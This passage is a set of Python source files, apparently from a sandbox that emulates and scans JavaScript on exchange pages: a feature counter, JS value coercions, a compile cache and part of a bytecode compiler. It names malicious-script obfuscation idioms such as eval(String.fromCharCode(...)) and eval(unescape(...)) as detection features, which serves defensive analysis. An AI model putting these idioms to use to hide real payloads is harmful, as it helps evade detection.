    """Text-level fallback when the sample does not parse."""
    features.eval_count = source.count("eval(")
    features.document_write_count = source.count("document.write")
    features.fromcharcode_count = source.count("fromCharCode")
    features.unescape_count = source.count("unescape(")
    features.function_count = source.count("function")
    # crude string literal scan
    import re

    for match in re.finditer(r"(['\"])((?:[^'\"\\\n]|\\.)*)\1", source):
        strings.append(match.group(2))
