"""JavaScript runtime values and coercions.

The interpreter's value universe:

* ``float`` — JS number
* ``str`` — JS string
* ``bool`` — JS boolean
* ``None`` — JS ``null``
* :data:`UNDEFINED` — JS ``undefined``
* :class:`JSObject` / :class:`JSArray` — objects and arrays
* :class:`JSFunction` — closures over interpreter environments
* :class:`NativeFunction` — host/builtin callables
* host objects — any Python object implementing ``js_get``/``js_set``

Coercion helpers implement the ES5 abstract operations the corpus needs
(ToString, ToNumber, ToBoolean, loose equality).
"""

from __future__ import annotations

import math
from typing import Any, Callable, Dict, List, Optional

__all__ = [
    "UNDEFINED", "Undefined", "JSObject", "JSArray", "JSFunction",
    "NativeFunction", "JSException", "to_string", "to_number",
    "to_boolean", "loose_equals", "strict_equals", "type_of",
]


class Undefined:
    """Singleton for JS ``undefined``."""

    _instance: Optional["Undefined"] = None

    def __new__(cls) -> "Undefined":
        if cls._instance is None:
            cls._instance = super().__new__(cls)
        return cls._instance

    def __repr__(self) -> str:
        return "undefined"

    def __bool__(self) -> bool:
        return False


UNDEFINED = Undefined()


class JSException(Exception):
    """A thrown JS value propagating through the interpreter."""

    def __init__(self, value: Any) -> None:
        super().__init__(to_string(value))
        self.value = value


class JSObject:
    """A plain JS object backed by an ordered dict."""

    def __init__(self, properties: Optional[Dict[str, Any]] = None) -> None:
        self.properties: Dict[str, Any] = dict(properties or {})

    def js_get(self, name: str) -> Any:
        return self.properties.get(name, UNDEFINED)

    def js_set(self, name: str, value: Any) -> None:
        self.properties[name] = value

    def js_has(self, name: str) -> bool:
        return name in self.properties

    def js_delete(self, name: str) -> None:
        self.properties.pop(name, None)

    def keys(self) -> List[str]:
        return list(self.properties)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return "JSObject(%r)" % self.properties


class JSArray(JSObject):
    """A JS array; elements live in ``elements``, extra props in dict."""

    def __init__(self, elements: Optional[List[Any]] = None) -> None:
        super().__init__()
        self.elements: List[Any] = list(elements or [])

    def js_get(self, name: str) -> Any:
        if name == "length":
            return float(len(self.elements))
        if name.lstrip("-").isdigit():
            index = int(name)
            if 0 <= index < len(self.elements):
                return self.elements[index]
            return UNDEFINED
        return super().js_get(name)

    def js_set(self, name: str, value: Any) -> None:
        if name == "length":
            new_len = int(to_number(value))
            del self.elements[new_len:]
            self.elements.extend([UNDEFINED] * (new_len - len(self.elements)))
            return
        if name.lstrip("-").isdigit():
            index = int(name)
            if index >= 0:
                while len(self.elements) <= index:
                    self.elements.append(UNDEFINED)
                self.elements[index] = value
                return
        super().js_set(name, value)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return "JSArray(%r)" % self.elements


class JSFunction:
    """A user-defined function: closure over an environment."""

    def __init__(self, name: Optional[str], params: List[str], body: list, env: Any) -> None:
        self.name = name or ""
        self.params = params
        self.body = body
        self.env = env
        self.properties: Dict[str, Any] = {}

    def js_get(self, name: str) -> Any:
        if name == "length":
            return float(len(self.params))
        if name == "name":
            return self.name
        return self.properties.get(name, UNDEFINED)

    def js_set(self, name: str, value: Any) -> None:
        self.properties[name] = value

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return "JSFunction(%s)" % (self.name or "<anonymous>")


class NativeFunction:
    """A builtin or host function exposed to scripts."""

    def __init__(self, name: str, fn: Callable[..., Any]) -> None:
        self.name = name
        self.fn = fn

    def __call__(self, *args: Any) -> Any:
        return self.fn(*args)

    def js_get(self, name: str) -> Any:
        if name == "name":
            return self.name
        return UNDEFINED

    def js_set(self, name: str, value: Any) -> None:  # host funcs are sealed
        pass

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return "NativeFunction(%s)" % self.name


# ---------------------------------------------------------------------------
# Coercions
# ---------------------------------------------------------------------------

def to_boolean(value: Any) -> bool:
    if value is UNDEFINED or value is None:
        return False
    if isinstance(value, bool):
        return value
    if isinstance(value, float):
        return value != 0 and not math.isnan(value)
    if isinstance(value, str):
        return bool(value)
    return True


def to_number(value: Any) -> float:
    if isinstance(value, bool):
        return 1.0 if value else 0.0
    if isinstance(value, float):
        return value
    if isinstance(value, int):  # host code may hand us ints
        return float(value)
    if value is None:
        return 0.0
    if value is UNDEFINED:
        return float("nan")
    if isinstance(value, str):
        text = value.strip()
        if not text:
            return 0.0
        try:
            if text.lower().startswith(("0x", "-0x", "+0x")):
                return float(int(text, 16))
            return float(text)
        except ValueError:
            return float("nan")
    if isinstance(value, JSArray):
        if not value.elements:
            return 0.0
        if len(value.elements) == 1:
            return to_number(value.elements[0])
        return float("nan")
    return float("nan")


def _number_to_string(value: float) -> str:
    if math.isnan(value):
        return "NaN"
    if math.isinf(value):
        return "Infinity" if value > 0 else "-Infinity"
    if value == int(value) and abs(value) < 1e21:
        return str(int(value))
    return repr(value)


def to_string(value: Any) -> str:
    if isinstance(value, str):
        return value
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return _number_to_string(value)
    if isinstance(value, int):
        return str(value)
    if value is None:
        return "null"
    if value is UNDEFINED:
        return "undefined"
    if isinstance(value, JSArray):
        return ",".join("" if el is UNDEFINED or el is None else to_string(el) for el in value.elements)
    if isinstance(value, JSFunction):
        return "function %s() { [code] }" % value.name
    if isinstance(value, NativeFunction):
        return "function %s() { [native code] }" % value.name
    if isinstance(value, JSObject):
        return "[object Object]"
    if hasattr(value, "js_to_string"):
        return value.js_to_string()
    return "[object %s]" % type(value).__name__


def type_of(value: Any) -> str:
    if value is UNDEFINED:
        return "undefined"
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, (float, int)):
        return "number"
    if isinstance(value, str):
        return "string"
    if isinstance(value, (JSFunction, NativeFunction)):
        return "function"
    return "object"


def strict_equals(a: Any, b: Any) -> bool:
    if type_of(a) != type_of(b):
        return False
    if isinstance(a, float) and isinstance(b, float):
        return a == b  # NaN != NaN falls out naturally
    if a is UNDEFINED and b is UNDEFINED:
        return True
    if a is None and b is None:
        return True
    if isinstance(a, (str, bool)) and isinstance(b, (str, bool)):
        return a == b
    return a is b


def loose_equals(a: Any, b: Any) -> bool:
    ta, tb = type_of(a), type_of(b)
    if ta == tb:
        return strict_equals(a, b)
    if (a is None and b is UNDEFINED) or (a is UNDEFINED and b is None):
        return True
    if ta == "number" and tb == "string":
        return to_number(a) == to_number(b)
    if ta == "string" and tb == "number":
        return to_number(a) == to_number(b)
    if ta == "boolean":
        return loose_equals(to_number(a), b)
    if tb == "boolean":
        return loose_equals(a, to_number(b))
    if ta in ("number", "string") and tb == "object":
        return loose_equals(a, to_string(b))
    if ta == "object" and tb in ("number", "string"):
        return loose_equals(to_string(a), b)
    return False
