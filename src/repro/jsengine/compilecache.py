"""Per-source compiled-program cache for the tree-walking interpreter.

Exchange pages are template-generated: the same rotator snippets,
obfuscation stubs, and event-handler bodies recur across thousands of
pages, and before PR 8 the sandbox re-lexed and re-parsed every copy.
``parse()`` is a pure function of its source string, so a pipeline-
scoped :class:`CompileCache` keyed on the source (the dict hashes the
string; equal sources share one entry, colliding hashes still compare
full keys) makes compilation once-per-distinct-script:

* **results are never changed** — a hit returns the same immutable AST
  the miss produced; the interpreter never mutates AST nodes (closures
  capture environments, hoisting writes environments), so sharing one
  ``Program`` across scripts, pages, and shard threads is safe,
* **accounting is preserved** — every call (hit or miss) charges the
  stored token count as ``js.tokens``, exactly what the uncached path
  charged per parse, so work-ledger totals and the perf budget are
  invariant under caching,
* **errors replay** — :class:`~repro.jsengine.parser.ParseError`
  entries keep their token count (lexing succeeded before the parse
  failed, and the uncached path charges for it);
  :class:`~repro.jsengine.lexer.LexError` entries charge nothing,
* **concurrency-invariant** — the lock is held across the compile, so
  the miss count equals the number of distinct sources at any worker
  count and the ``jsengine.cache.*`` counters stay bit-identical
  between serial and sharded runs.

Hits and misses surface both as unlabeled counters and as
``jsengine.cache.hits`` / ``jsengine.cache.misses`` work kinds; the obs
report derives the hit rate from them.
"""

from __future__ import annotations

import threading
from typing import Any, Dict, Optional

from . import nodes as N
from .lexer import LexError, tokenize
from .parser import ParseError, parse_tokens

__all__ = ["CompileCache"]


class _Entry:
    """One compiled source: the program, its cost, or its failure.

    ``codes`` holds backend-specific lowerings of the shared AST, keyed
    by ``("vm",) + limits`` — backend identity plus the interpreter
    limits that influence code generation (the VM's constant folder
    honours ``MAX_STRING_LENGTH``), so an AST entry is never replayed
    into the VM and codes compiled under different limits never mix.
    """

    __slots__ = ("program", "token_count", "error", "codes")

    def __init__(self, program: Optional[N.Program], token_count: int,
                 error: Optional[BaseException]) -> None:
        self.program = program
        self.token_count = token_count
        self.error = error
        self.codes: Dict[tuple, Any] = {}


class CompileCache:
    """Thread-safe source → compiled ``Program`` cache.

    One instance is scoped to a pipeline run and shared by the scan
    service and every :meth:`shard_clone` of it, so the hit rate (and
    the compile work saved) is the same whether the scan phase runs
    serial or sharded.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._entries: Dict[str, _Entry] = {}
        self.hits = 0
        self.misses = 0

    def __len__(self) -> int:
        return len(self._entries)

    @property
    def hit_rate(self) -> float:
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    def compile_code(self, source: str, limits: tuple,
                     observer: Optional[Any] = None,
                     charge_tokens: bool = True) -> Any:
        """Return VM bytecode for ``source``, caching by source + limits.

        Hit/miss accounting stays keyed per *source request* — exactly
        like :meth:`compile` — so the ``jsengine.cache.*`` counters are
        invariant across backends; the bytecode lowering itself is keyed
        by backend identity and the codegen-relevant limits inside the
        entry.  Compile errors replay with the same token charges.
        """
        from .compiler import compile_program

        with self._lock:
            entry, hit = self._lookup(source)
            code = None
            if entry.error is None:
                key = ("vm",) + tuple(limits)
                code = entry.codes.get(key)
                if code is None:
                    # limits[-1] is MAX_STRING_LENGTH, the only limit the
                    # compiler consumes (budget is dispatch-time state)
                    code = compile_program(entry.program,
                                           max_string_length=limits[-1])
                    entry.codes[key] = code
        self._charge(entry, hit, observer, charge_tokens)
        if entry.error is not None:
            raise entry.error
        return code

    def compile(self, source: str, observer: Optional[Any] = None,
                charge_tokens: bool = True) -> N.Program:
        """Return the compiled program for ``source``, caching by source.

        Charges ``js.tokens`` and the ``jsengine.cache.*`` telemetry on
        every call, then re-raises the original compile error for
        sources that never compiled — callers cannot tell a hit from a
        miss except by speed.  Callers whose uncached path never charged
        tokens (the staticjs pre-filter parses without an observer) pass
        ``charge_tokens=False`` so the work ledger stays invariant.
        """
        with self._lock:
            entry, hit = self._lookup(source)
        self._charge(entry, hit, observer, charge_tokens)
        if entry.error is not None:
            raise entry.error
        return entry.program  # type: ignore[return-value]

    def _lookup(self, source: str) -> "tuple[_Entry, bool]":
        """Find-or-create the entry for ``source``; caller holds the lock."""
        entry = self._entries.get(source)
        if entry is None:
            entry = self._compile(source)
            self._entries[source] = entry
            self.misses += 1
            return entry, False
        self.hits += 1
        return entry, True

    @staticmethod
    def _charge(entry: _Entry, hit: bool, observer: Optional[Any],
                charge_tokens: bool) -> None:
        if observer is not None:
            if charge_tokens and entry.token_count:
                observer.work("js.tokens", entry.token_count)
            name = "jsengine.cache.hits" if hit else "jsengine.cache.misses"
            observer.count(name)
            observer.work(name, 1)

    @staticmethod
    def _compile(source: str) -> _Entry:
        try:
            tokens = tokenize(source)
        except LexError as error:
            return _Entry(None, 0, error)
        try:
            return _Entry(parse_tokens(tokens), len(tokens), None)
        except ParseError as error:
            # lexing succeeded: the uncached path charges these tokens
            return _Entry(None, len(tokens), error)
