"""AST → opcode compiler for the JS sandbox's VM backend (PR 9).

Lowers the parser's AST into flat bytecode: a list of ``(opcode, arg)``
instructions with jump targets resolved to absolute indices.  Two design
constraints shape everything here:

**Tick parity.**  The tree-walking :class:`~repro.jsengine.interpreter.
Interpreter` charges one "step" per AST-node visit against the step
budget, and those steps are observable — ``js.op_count`` gauges, the
``js.interp.steps`` work kind, and *where* a runaway script gets cut
off all depend on them.  The compiler therefore attaches a **tick
weight** to every instruction (the parallel ``weights`` array): the
number of walker ticks the instruction stands for, charged before the
instruction executes.  Fusing several ticks into one weight is safe
exactly because, by construction, no instruction — hence no observable
effect and no alternative exception — exists between the fused tick
points; on budget overflow the VM normalises ``steps`` to the walker's
post-raise value.  This keeps step accounting bit-identical between
backends while the *dispatch count* (``js.vm.ops``) shrinks.

**Constant folding is the speed win.**  The obfuscation idioms the
paper's samples use — ``eval(String.fromCharCode(104, 101, ...))``,
``"chu" + "nk" + ...`` concat chains, ``eval(unescape("%68%65.."))`` —
spend O(payload length) walker steps evaluating literal subtrees.
Folding them at compile time (via the *shared*
:func:`~repro.jsengine.interpreter.evaluate_binary`, so a folded value
can never diverge from runtime evaluation) collapses those to a single
``LOAD_CONST`` / ``PUSH_CONSTS`` / ``BUILD_CONST_ARRAY`` whose weight
still charges every fused tick.  Only provably pure literal subtrees
fold; anything touching the environment (identifiers, calls, members)
never does, because globals — including ``unescape`` itself — can be
shadowed at runtime.

Control flow splits two ways: ``If``/``Conditional``/``Logical``/
``Sequence`` compile flat with resolved jumps, while loops, ``Try`` and
``Switch`` compile to *block opcodes* holding sub-:class:`Code` objects
whose VM handlers literally mirror the walker's Python control
structure (same ``_Break``/``_Continue``/``_Return`` signal classes),
so break/continue/return-through-finally semantics are inherited rather
than re-implemented.
"""

from __future__ import annotations

from typing import Any, List, Optional, Tuple

from . import nodes as N
from .interpreter import BudgetExceeded, _to_int32, evaluate_binary
from .values import UNDEFINED, JSException, to_boolean, to_number, to_string, type_of

__all__ = ["Code", "FunctionTemplate", "compile_program", "compile_function_body"]

# ---------------------------------------------------------------------------
# Opcodes.  Plain ints; `arg` is a per-opcode payload (constant, name,
# jump target, argc, or a tuple of sub-Code objects for block opcodes).
# ---------------------------------------------------------------------------
(
    LOAD_CONST,         # arg=value             push value
    PUSH_CONSTS,        # arg=tuple             push each value (folded call args)
    BUILD_CONST_ARRAY,  # arg=tuple             push JSArray(list(arg)) — fresh per exec
    BUILD_CONST_OBJECT,  # arg=((key, value),…)  push JSObject with those properties
    POP,                # —                     discard TOS
    LOAD_NAME,          # arg=name              push env.lookup(name); ReferenceError if absent
    LOAD_NAME_SOFT,     # arg=name              push lookup(name) if bound else UNDEFINED
    STORE_NAME,         # arg=name              env.assign(name, TOS); value stays
    DECLARE_STORE,      # arg=name              pop value; declare-or-assign (VarDecl)
    HOIST,              # arg=(("f", tmpl)|("v", name), …)  hoisting prologue
    DECLARE_FUNCTION,   # arg=template          env.declare(name, fresh function)
    MAKE_FUNCTION,      # arg=template          push fresh closure (FunctionExpr)
    LOAD_THIS,          # —                     push this-binding or UNDEFINED
    BUILD_ARRAY,        # arg=argc              pop argc values, push JSArray
    BUILD_OBJECT,       # arg=(key, …)          pop len values, push JSObject
    GET_MEMBER,         # arg=name              pop obj, push get_member(obj, name)
    GET_MEMBER_DYN,     # —                     pop prop, obj; push member
    SET_MEMBER,         # arg=name              pop obj; peek value; obj.js_set
    SET_MEMBER_DYN,     # —                     pop prop, obj; peek value; js_set
    DELETE_MEMBER,      # arg=name|None         delete member (None = computed prop on stack)
    CALL,               # arg=argc              pop fn, argc args; push call result
    CALL_METHOD,        # arg=(name, argc)      pop obj, argc args; this=obj
    CALL_METHOD_DYN,    # arg=argc              pop prop, obj, argc args; this=obj
    NEW,                # arg=argc              pop argc args, callee; construct
    BINOP,              # arg=operator          pop rhs, lhs; push evaluate_binary
    UNARY,              # arg=operator          pop value; push unary result
    TYPEOF,             # —                     pop value; push type_of
    TYPEOF_NAME,        # arg=name              push typeof binding ("undefined" if absent)
    UPDATE_VALUE,       # arg=(delta, prefix)   pop raw; push result, new (for ++/-- on members)
    INC_NAME,           # arg=(name, delta, prefix)  ++/-- on an identifier
    JUMP,               # arg=target            pc = target
    JUMP_IF_FALSE,      # arg=target            pop; jump when falsy
    JUMP_IF_FALSE_OR_POP,  # arg=target         && : keep+jump when falsy, else pop
    JUMP_IF_TRUE_OR_POP,   # arg=target         || : keep+jump when truthy, else pop
    SET_RESULT,         # —                     result = pop (statement value)
    CLEAR_RESULT,       # —                     result = UNDEFINED
    RETURN,             # arg=has_value         raise _Return(pop if has_value else UNDEFINED)
    BREAK,              # —                     raise _Break
    CONTINUE,           # —                     raise _Continue
    THROW,              # —                     raise JSException(pop)
    RAISE_MSG,          # arg=message           raise JSException(message)
    WHILE,              # arg=(test, body)      block op: sub-Code loop
    DOWHILE,            # arg=(body, test)
    FOR,                # arg=(init, test, update, body)
    FORIN,              # arg=(target, declare, body)   pops iterated object
    TRY,                # arg=(block, catch_param, catch, finally)
    SWITCH,             # arg=((test|None, body), …)    pops discriminant
) = range(47)

#: printable opcode names, index-aligned with the constants above
OP_NAMES = (
    "LOAD_CONST", "PUSH_CONSTS", "BUILD_CONST_ARRAY", "BUILD_CONST_OBJECT",
    "POP", "LOAD_NAME", "LOAD_NAME_SOFT", "STORE_NAME", "DECLARE_STORE",
    "HOIST", "DECLARE_FUNCTION", "MAKE_FUNCTION", "LOAD_THIS", "BUILD_ARRAY",
    "BUILD_OBJECT", "GET_MEMBER", "GET_MEMBER_DYN", "SET_MEMBER",
    "SET_MEMBER_DYN", "DELETE_MEMBER", "CALL", "CALL_METHOD",
    "CALL_METHOD_DYN", "NEW", "BINOP", "UNARY", "TYPEOF", "TYPEOF_NAME",
    "UPDATE_VALUE", "INC_NAME", "JUMP", "JUMP_IF_FALSE",
    "JUMP_IF_FALSE_OR_POP", "JUMP_IF_TRUE_OR_POP", "SET_RESULT",
    "CLEAR_RESULT", "RETURN", "BREAK", "CONTINUE", "THROW", "RAISE_MSG",
    "WHILE", "DOWHILE", "FOR", "FORIN", "TRY", "SWITCH",
)


class Code:
    """A compiled code unit: instructions plus their tick weights.

    Immutable after compilation and safe to share across threads (the
    VM keeps all mutable state in its frame locals and environments).
    """

    __slots__ = ("instrs", "weights", "name")

    def __init__(self, instrs: List[Tuple[int, Any]], weights: List[int],
                 name: str) -> None:
        self.instrs = instrs
        self.weights = weights
        self.name = name

    def __len__(self) -> int:
        return len(self.instrs)

    def dis(self, indent: str = "") -> str:
        """Human-readable disassembly (debugging / DESIGN examples)."""
        lines = []
        for index, (op, arg) in enumerate(self.instrs):
            label = OP_NAMES[op]
            if isinstance(arg, Code):
                shown: Any = "<code %s>" % arg.name
            elif isinstance(arg, tuple) and any(isinstance(a, Code) for a in arg):
                shown = "<%d sub-codes>" % sum(isinstance(a, Code) for a in arg)
            else:
                shown = repr(arg)
            lines.append("%s%4d  w=%-3d %-22s %s"
                         % (indent, index, self.weights[index], label, shown))
        return "\n".join(lines)


class FunctionTemplate:
    """Compile-time description of a function: AST body + its bytecode.

    The AST ``body`` is kept so VM-created functions remain structurally
    compatible with :class:`~repro.jsengine.values.JSFunction` consumers
    (``call``/``apply`` dispatch, ``type_of``), and so the reference
    backend could even execute them.
    """

    __slots__ = ("name", "params", "body", "code")

    def __init__(self, name: Optional[str], params: List[str],
                 body: List[N.Node], code: Code) -> None:
        self.name = name
        self.params = params
        self.body = body
        self.code = code


class _Folded:
    """A compile-time constant: its value plus the walker ticks it fuses."""

    __slots__ = ("value", "ticks")

    def __init__(self, value: Any, ticks: int) -> None:
        self.value = value
        self.ticks = ticks


_PRIMITIVES = (str, float, bool, int, type(None))


def _is_primitive(value: Any) -> bool:
    return isinstance(value, _PRIMITIVES) or value is UNDEFINED


class _CodeBuilder:
    """Accumulates instructions for one code unit.

    ``pending`` holds walker ticks that have occurred "since the last
    instruction"; the next emitted instruction absorbs them as weight.
    A sub-builder (loop bodies, tests, function bodies) always starts
    with ``pending == 0`` — the enclosing statement's ticks land on the
    block opcode itself.
    """

    def __init__(self, compiler: "_Compiler", name: str) -> None:
        self.compiler = compiler
        self.name = name
        self.instrs: List[Tuple[int, Any]] = []
        self.weights: List[int] = []
        self.pending = 0

    # -- emission helpers --------------------------------------------------
    def tick(self, count: int = 1) -> None:
        self.pending += count

    def emit(self, op: int, arg: Any = None) -> int:
        self.instrs.append((op, arg))
        self.weights.append(self.pending)
        self.pending = 0
        return len(self.instrs) - 1

    def emit_jump(self, op: int) -> int:
        return self.emit(op, None)

    def patch(self, index: int) -> None:
        op, _arg = self.instrs[index]
        self.instrs[index] = (op, len(self.instrs))

    def finish(self) -> Code:
        assert self.pending == 0, "dangling ticks must attach to an instruction"
        return Code(self.instrs, self.weights, self.name)

    # -- statements --------------------------------------------------------
    def stmt_list(self, body: List[N.Node]) -> None:
        for statement in body:
            self.stmt(statement)

    def stmt(self, node: N.Node) -> None:
        # mirrors Interpreter._exec: one tick per statement node
        self.tick()
        kind = type(node)
        if kind is N.ExpressionStatement:
            self.expr(node.expression)
            self.emit(SET_RESULT)
            return
        if kind is N.VarDecl:
            for name, init in node.declarations:
                if init is not None:
                    self.expr(init)
                else:
                    self.emit(LOAD_CONST, UNDEFINED)
                self.emit(DECLARE_STORE, name)
            return
        if kind is N.FunctionDecl:
            self.emit(DECLARE_FUNCTION,
                      self.compiler.function_template(node.name, node.params, node.body))
            return
        if kind is N.Block:
            if not node.body:
                self.emit(CLEAR_RESULT)
                return
            self.stmt_list(node.body)
            return
        if kind is N.If:
            self.expr(node.test)
            jump_false = self.emit_jump(JUMP_IF_FALSE)
            self.stmt(node.consequent)
            jump_end = self.emit_jump(JUMP)
            self.patch(jump_false)
            if node.alternate is not None:
                self.stmt(node.alternate)
            else:
                self.emit(CLEAR_RESULT)
            self.patch(jump_end)
            return
        if kind is N.While:
            self.emit(WHILE, (self.sub_expr(node.test, "while.test"),
                              self.sub_stmt(node.body, "while.body")))
            return
        if kind is N.DoWhile:
            self.emit(DOWHILE, (self.sub_stmt(node.body, "dowhile.body"),
                                self.sub_expr(node.test, "dowhile.test")))
            return
        if kind is N.For:
            init: Optional[Code] = None
            if node.init is not None:
                if isinstance(node.init, (N.VarDecl, N.ExpressionStatement)):
                    init = self.sub_stmt(node.init, "for.init")
                else:
                    init = self.sub_expr(node.init, "for.init")
            test = self.sub_expr(node.test, "for.test") if node.test is not None else None
            update = self.sub_expr(node.update, "for.update") if node.update is not None else None
            self.emit(FOR, (init, test, update, self.sub_stmt(node.body, "for.body")))
            return
        if kind is N.ForIn:
            self.expr(node.obj)
            self.emit(FORIN, (node.target, node.declare,
                              self.sub_stmt(node.body, "forin.body")))
            return
        if kind is N.Return:
            if node.argument is not None:
                self.expr(node.argument)
                self.emit(RETURN, True)
            else:
                self.emit(RETURN, False)
            return
        if kind is N.Break:
            self.emit(BREAK)
            return
        if kind is N.Continue:
            self.emit(CONTINUE)
            return
        if kind is N.Throw:
            self.expr(node.argument)
            self.emit(THROW)
            return
        if kind is N.Try:
            catch = (self.sub_stmt(node.catch_block, "try.catch")
                     if node.catch_block is not None else None)
            final = (self.sub_stmt(node.finally_block, "try.finally")
                     if node.finally_block is not None else None)
            self.emit(TRY, (self.sub_stmt(node.block, "try.block"),
                            node.catch_param, catch, final))
            return
        if kind is N.Switch:
            self.expr(node.discriminant)
            cases = tuple(
                (self.sub_expr(case.test, "case.test") if case.test is not None else None,
                 self.sub_stmts(case.body, "case.body"))
                for case in node.cases)
            self.emit(SWITCH, cases)
            return
        if kind is N.EmptyStatement:
            self.emit(CLEAR_RESULT)
            return
        # expression node in statement position (e.g. bare for-init)
        self.expr(node)
        self.emit(SET_RESULT)

    # -- sub-code units ----------------------------------------------------
    def sub_stmt(self, node: N.Node, name: str) -> Code:
        builder = _CodeBuilder(self.compiler, name)
        builder.stmt(node)
        return builder.finish()

    def sub_stmts(self, body: List[N.Node], name: str) -> Code:
        builder = _CodeBuilder(self.compiler, name)
        builder.stmt_list(body)
        return builder.finish()

    def sub_expr(self, node: N.Node, name: str) -> Code:
        builder = _CodeBuilder(self.compiler, name)
        builder.expr(node)
        return builder.finish()

    # -- expressions -------------------------------------------------------
    def expr(self, node: N.Node) -> None:
        folded = self.compiler.fold(node)
        if folded is not None:
            self.tick(folded.ticks)
            self.emit(LOAD_CONST, folded.value)
            return
        # mirrors Interpreter._eval: one tick per expression node
        self.tick()
        kind = type(node)
        if kind is N.Identifier:
            self.emit(LOAD_NAME, node.name)
            return
        if kind is N.ThisExpr:
            self.emit(LOAD_THIS)
            return
        if kind is N.ArrayLiteral:
            folds = [self.compiler.fold(element) for element in node.elements]
            if all(f is not None and _is_primitive(f.value) for f in folds):
                self.tick(sum(f.ticks for f in folds))  # type: ignore[union-attr]
                self.emit(BUILD_CONST_ARRAY,
                          tuple(f.value for f in folds))  # type: ignore[union-attr]
                return
            for element in node.elements:
                self.expr(element)
            self.emit(BUILD_ARRAY, len(node.elements))
            return
        if kind is N.ObjectLiteral:
            folds = [self.compiler.fold(value) for _key, value in node.properties]
            if all(f is not None and _is_primitive(f.value) for f in folds):
                self.tick(sum(f.ticks for f in folds))  # type: ignore[union-attr]
                self.emit(BUILD_CONST_OBJECT,
                          tuple((to_string(key), f.value)  # type: ignore[union-attr]
                                for (key, _v), f in zip(node.properties, folds)))
                return
            keys = []
            for key, value in node.properties:
                keys.append(to_string(key))
                self.expr(value)
            self.emit(BUILD_OBJECT, tuple(keys))
            return
        if kind is N.FunctionExpr:
            self.emit(MAKE_FUNCTION,
                      self.compiler.function_template(node.name, node.params, node.body))
            return
        if kind is N.Unary:
            self.unary(node)
            return
        if kind is N.Update:
            self.update(node)
            return
        if kind is N.Binary:
            self.expr(node.left)
            self.expr(node.right)
            self.emit(BINOP, node.operator)
            return
        if kind is N.Logical:
            left_fold = self.compiler.fold(node.left)
            if left_fold is not None:
                # fold() didn't collapse the whole node, so the constant
                # left side must select the right branch: charge its
                # ticks and compile the right side in place
                self.tick(left_fold.ticks)
                self.expr(node.right)
                return
            self.expr(node.left)
            jump = self.emit_jump(
                JUMP_IF_FALSE_OR_POP if node.operator == "&&" else JUMP_IF_TRUE_OR_POP)
            self.expr(node.right)
            self.patch(jump)
            return
        if kind is N.Conditional:
            test_fold = self.compiler.fold(node.test)
            if test_fold is not None:
                self.tick(test_fold.ticks)
                taken = node.consequent if to_boolean(test_fold.value) else node.alternate
                self.expr(taken)
                return
            self.expr(node.test)
            jump_false = self.emit_jump(JUMP_IF_FALSE)
            self.expr(node.consequent)
            jump_end = self.emit_jump(JUMP)
            self.patch(jump_false)
            self.expr(node.alternate)
            self.patch(jump_end)
            return
        if kind is N.Assignment:
            self.assignment(node)
            return
        if kind is N.Call:
            self.call(node)
            return
        if kind is N.New:
            self.expr(node.callee)
            for argument in node.arguments:
                self.expr(argument)
            self.emit(NEW, len(node.arguments))
            return
        if kind is N.Member:
            self.expr(node.obj)
            if node.computed:
                self.expr(node.prop)
                self.emit(GET_MEMBER_DYN)
            else:
                self.emit(GET_MEMBER, node.prop.value)  # type: ignore[union-attr]
            return
        if kind is N.Sequence:
            last = len(node.expressions) - 1
            for index, expression in enumerate(node.expressions):
                self.expr(expression)
                if index != last:
                    self.emit(POP)
            return
        # mirror of the walker's runtime error for unknown nodes
        self.emit(RAISE_MSG, "unsupported node %s" % kind.__name__)

    def unary(self, node: N.Unary) -> None:
        operator = node.operator
        if operator == "typeof":
            if isinstance(node.argument, N.Identifier):
                self.emit(TYPEOF_NAME, node.argument.name)
                return
            self.expr(node.argument)
            self.emit(TYPEOF)
            return
        if operator == "delete":
            if isinstance(node.argument, N.Member):
                self.expr(node.argument.obj)
                if node.argument.computed:
                    self.expr(node.argument.prop)
                    self.emit(DELETE_MEMBER, None)
                else:
                    self.emit(DELETE_MEMBER, node.argument.prop.value)  # type: ignore[union-attr]
                return
            self.emit(LOAD_CONST, True)
            return
        self.expr(node.argument)
        self.emit(UNARY, operator)

    def update(self, node: N.Update) -> None:
        delta = 1.0 if node.operator == "++" else -1.0
        target = node.argument
        if isinstance(target, N.Identifier):
            self.emit(INC_NAME, (target.name, delta, node.prefix))
            return
        if isinstance(target, N.Member):
            # the walker evaluates obj (and computed prop) twice: once to
            # read, once to write — replicated here instruction for
            # instruction so side effects and ticks match
            self.member_read(target)
            self.emit(UPDATE_VALUE, (delta, node.prefix))
            self.member_write(target)
            self.emit(POP)
            return
        self.emit(RAISE_MSG, "invalid update target")

    def member_read(self, target: N.Member) -> None:
        self.expr(target.obj)
        if target.computed:
            self.expr(target.prop)
            self.emit(GET_MEMBER_DYN)
        else:
            self.emit(GET_MEMBER, target.prop.value)  # type: ignore[union-attr]

    def member_write(self, target: N.Member) -> None:
        """Emit obj/prop evaluation and the store; expects value at TOS."""
        self.expr(target.obj)
        if target.computed:
            self.expr(target.prop)
            self.emit(SET_MEMBER_DYN)
        else:
            self.emit(SET_MEMBER, target.prop.value)  # type: ignore[union-attr]

    def assignment(self, node: N.Assignment) -> None:
        target = node.target
        if node.operator == "=":
            # walker order: value first, then the target's obj/prop
            self.expr(node.value)
            if isinstance(target, N.Identifier):
                self.emit(STORE_NAME, target.name)
            elif isinstance(target, N.Member):
                self.member_write(target)
            else:
                self.emit(RAISE_MSG, "invalid assignment target")
            return
        operator = node.operator[:-1]
        if isinstance(target, N.Identifier):
            self.emit(LOAD_NAME_SOFT, target.name)
            self.expr(node.value)
            self.emit(BINOP, operator)
            self.emit(STORE_NAME, target.name)
            return
        if isinstance(target, N.Member):
            self.member_read(target)
            self.expr(node.value)
            self.emit(BINOP, operator)
            self.member_write(target)
            return
        # the walker's _read_target raises before evaluating the value
        self.emit(RAISE_MSG, "invalid update target")

    def call(self, node: N.Call) -> None:
        # walker order: arguments first, then the callee
        arguments = node.arguments
        index = 0
        count = len(arguments)
        while index < count:
            run_values: List[Any] = []
            run_ticks = 0
            while index < count:
